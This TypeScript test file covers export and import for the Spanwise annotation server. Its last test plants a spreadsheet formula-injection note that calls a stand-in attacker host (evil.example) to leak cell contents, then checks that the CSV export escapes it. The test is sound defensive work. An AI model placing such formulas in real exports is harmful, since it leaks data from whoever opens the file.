import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import { takeSnapshot } from '../../editor/export/snapshot'
import { YDocumentMeasurer, anchorToJSON } from '../../editor/model/anchors'
import { createAnnotation } from '../../editor/model/annotation-store'
import { CONTENT_FRAGMENT } from '../../editor/model/doc-layout'
import { schema } from '../../editor/schema'
import { readContent } from '../../editor/yjs/document-content'
import { makeDataDir, removeDataDir, startTestServer, type TestServer } from './support/test-server'
import { waitFor } from './support/wait'
import { connectClient, waitForSynced, type YjsClient } from './support/yjs-client'

const run = promisify(execFile)
const DOC = 'israel-russia-part-2'
const WORDS = '“master class”'

/** Tags the first occurrence of `words` in a synced client's document as a claim. */
function tagWords(client: YjsClient, words: string): string {
  const doc = readContent(client.doc)
  let from = -1
  doc.descendants((node, pos) => {
    if (from >= 0 || !node.isText) return from < 0
    const index = node.text!.indexOf(words)
    if (index >= 0) from = pos + index
    return false
  })
  const measurer = new YDocumentMeasurer(client.doc.getXmlFragment(CONTENT_FRAGMENT), schema)
  return createAnnotation(client.doc, {
    id: 'claim-master-class',
    type: 'claim',
    start: anchorToJSON(measurer.relativePositionAt(from, 'start')!),
    end: anchorToJSON(measurer.relativePositionAt(from + words.length, 'end')!),
    exact: words,
    attrs: { verdict: 'unreviewed', claimant: 'Steve Bannon' },
    createdBy: { id: 'tester', name: 'Tester' },
  })
}

describe('exports from the stored state', () => {
  let server: TestServer
  let client: YjsClient
  const outDir = mkdtempSync(join(tmpdir(), 'spanwise-export-'))

  beforeAll(async () => {
    server = await startTestServer(await makeDataDir(), { contentDir: join(process.cwd(), 'content') })
    client = connectClient(server.wsUrl, DOC)
    await waitForSynced(client)
    tagWords(client, WORDS)
  })

  afterAll(async () => {
    client.destroy()
    await server.server.stop()
    await removeDataDir(server.dataDir)
    rmSync(outDir, { recursive: true, force: true })
  })

  it('GET /api/docs/:id/state returns the whole document as one Yjs update; 404 for unknown ids', async () => {
    await waitFor(async () => {
      const response = await fetch(`${server.httpUrl}/api/docs/${DOC}/state`)
      const state = new Uint8Array(await response.arrayBuffer())
      const doc = new Y.Doc()
      Y.applyUpdate(doc, state)
      return doc.getMap('annotations').has('claim-master-class')
    }, 'the annotation to be stored')
    const response = await fetch(`${server.httpUrl}/api/docs/${DOC}/state`)
    expect(response.headers.get('content-type')).toBe('application/octet-stream')
    const stored = new Y.Doc()
    Y.applyUpdate(stored, new Uint8Array(await response.arrayBuffer()))
    expect(readContent(stored).toJSON()).toEqual(readContent(client.doc).toJSON())
    const snapshot = takeSnapshot(DOC, stored)
    expect(snapshot.annotations.map((a) => [a.id, a.exact, snapshot.text.slice(a.start!, a.end!)])).toEqual([['claim-master-class', WORDS, WORDS]])

    const missing = await fetch(`${server.httpUrl}/api/docs/nope/state`)
    expect(missing.status).toBe(404)
    expect(await missing.json()).toEqual({ error: 'document "nope" not found' })
  })

  it('npm run export writes the native JSON of a stored document with the exact words at the offsets', async () => {
    const target = join(outDir, 'seed.json')
    const { stdout } = await run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'json', '--out', target, '--data-dir', server.dataDir])
    expect(stdout.trim()).toBe(`${DOC} → ${target}`)
    const exported = JSON.parse(readFileSync(target, 'utf8'))
    expect(exported.offsetUnit).toBe('codepoint')
    const [claim] = exported.annotations
    expect(claim).toMatchObject({ id: 'claim-master-class', type: 'claim', state: 'attached', exact: WORDS })
    expect(
      Array.from(exported.text as string)
        .slice(claim.start, claim.end)
        .join(''),
    ).toBe(WORDS)
  })

  it('--all writes one file per document; bad flags exit 2 and unknown documents exit 1, naming the problem', async () => {
    await run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--all', '--format', 'json', '--out', join(outDir, 'all'), '--data-dir', server.dataDir])
    expect(readdirSync(join(outDir, 'all'))).toEqual([`${DOC}.json`])
    await expect(
      run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'xml', '--out', outDir, '--data-dir', server.dataDir]),
    ).rejects.toMatchObject({
      code: 2,
      stderr: expect.stringContaining('export: format must be one of json, w3c, jsonl, csv, brat, claimreview'),
    })
    await expect(
      run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', 'missing-doc', '--format', 'json', '--out', outDir, '--data-dir', server.dataDir]),
    ).rejects.toMatchObject({
      code: 1,
      stderr: expect.stringContaining('export: document "missing-doc" not found'),
    })
  })

  it('npm run export never creates a store: a directory without one exits 1, naming it, and stays empty', async () => {
    const empty = mkdtempSync(join(tmpdir(), 'spanwise-no-store-'))
    try {
      await expect(
        run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'json', '--out', outDir, '--data-dir', join(empty, 'data')]),
      ).rejects.toMatchObject({
        code: 1,
        stderr: expect.stringContaining(`export: no Spanwise store in ${join(empty, 'data')} (spanwise.sqlite is not there)`),
      })
      expect(readdirSync(empty)).toEqual([])
    } finally {
      rmSync(empty, { recursive: true, force: true })
    }
  })

  it('npm run import brings an exported file back as a new document with the same annotations', async () => {
    const exported = join(outDir, 'for-import.json')
    await run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'json', '--out', exported, '--data-dir', server.dataDir])
    const { stdout } = await run('node_modules/.bin/tsx', ['collab-server/cli/import.ts', exported, '--id', 'reimported', '--title', 'Reimported', '--data-dir', server.dataDir])
    expect(stdout.trim().split('\n')).toEqual(['reimported', 'annotations: 1 imported, 0 re-anchored by quote, 0 skipped'])
    const again = join(outDir, 'again.json')
    await run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', 'reimported', '--format', 'json', '--out', again, '--data-dir', server.dataDir])
    const strip = (file: string) => {
      const parsed = JSON.parse(readFileSync(file, 'utf8'))
      return { text: parsed.text, blocks: parsed.blocks, annotations: parsed.annotations.map(({ createdAt: _c, updatedAt: _u, ...rest }: Record<string, unknown>) => rest) }
    }
    expect(strip(again)).toEqual(strip(exported))
    await expect(run('node_modules/.bin/tsx', ['collab-server/cli/import.ts', join(outDir, 'missing.json'), '--data-dir', server.dataDir])).rejects.toMatchObject({ code: 1 })
    // Without --title, a Spanwise export keeps its document's title (not the file's name).
    const { stdout: untitled } = await run('node_modules/.bin/tsx', ['collab-server/cli/import.ts', exported, '--id', 'reimported-untitled', '--data-dir', server.dataDir])
    expect(untitled.trim().split('\n')[0]).toBe('reimported-untitled')
    const original = (await (await fetch(`${server.httpUrl}/api/docs/${DOC}`)).json()) as { title: string }
    const copy = (await (await fetch(`${server.httpUrl}/api/docs/reimported-untitled`)).json()) as { title: string }
    expect(copy.title).toBe(original.title)
    expect(copy.title).toBe('Israel – Russia relations, Part II')
  })

  it("npm run export writes CSV cells a spreadsheet would run as formulas with a leading ' (--csv raw: as they are)", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    const record = client.doc.getMap('annotations').get('claim-master-class') as Y.Map<unknown>
    record.set('note', formula)
    await waitFor(async () => {
      const doc = new Y.Doc()
      Y.applyUpdate(doc, new Uint8Array(await (await fetch(`${server.httpUrl}/api/docs/${DOC}/state`)).arrayBuffer()))
      return takeSnapshot(DOC, doc).annotations[0]?.note === formula
    }, 'the note to be stored')
    const noteOf = async (extra: string[]) => {
      const target = join(outDir, `note${extra.join('')}.csv`)
      await run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'csv', '--out', target, '--data-dir', server.dataDir, ...extra])
      const [header, row] = parse(readFileSync(target, 'utf8'), { bom: true })
      return row[header.indexOf('note')]
    }
    expect(await noteOf([])).toBe(`'${formula}`)
    expect(await noteOf(['--csv', 'raw'])).toBe(formula)
    await expect(
      run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'csv', '--csv', 'off', '--out', outDir, '--data-dir', server.dataDir]),
    ).rejects.toMatchObject({
      code: 2,
      stderr: expect.stringContaining('export: csv must be escape or raw'),
    })
  })
})
